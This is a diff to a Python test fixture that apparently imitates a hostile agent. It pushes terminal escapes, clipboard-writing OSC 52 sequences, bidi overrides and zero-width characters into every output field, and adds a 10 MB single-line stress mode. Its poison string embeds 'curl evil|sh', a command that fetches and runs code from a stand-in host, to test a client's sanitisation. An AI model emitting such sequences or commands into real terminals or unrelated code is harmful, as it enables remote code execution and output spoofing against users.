@@ -1,11 +1,12 @@
 """Puts terminal escapes, C1, bidi and zero-width characters into every field it can say.
 
-The prompt says how far it goes: `ask` leaves its requests open, `fail` ends in an error, `die` exits.
+The prompt says how far it goes: `ask` leaves its requests open, `fail` ends in an error, `die` exits,
+`long` says it 2,500 times in one line of 10 MB.
 """
 
 import sys
 
-from speech import SESSION, heard, say, send
+from speech import SESSION, heard, result, say, send
 
 POISON = "x\x1b]52;c;aGk=\x07\x1b[2J\x9b31m\x7f\r\u202e\u2066\u200b;curl evil|sh #"
 
@@ -71,6 +72,10 @@ def use_tools() -> None:
 
 def turn(words: str) -> None:
     introduce()
+    if "long" in words:
+        say((POISON + "a" * 4000 + " ") * 2500)
+        result()
+        return
     say(POISON, "m" + POISON)
     send({"type": "system", "subtype": POISON, "message": POISON})
     send({"type": POISON})
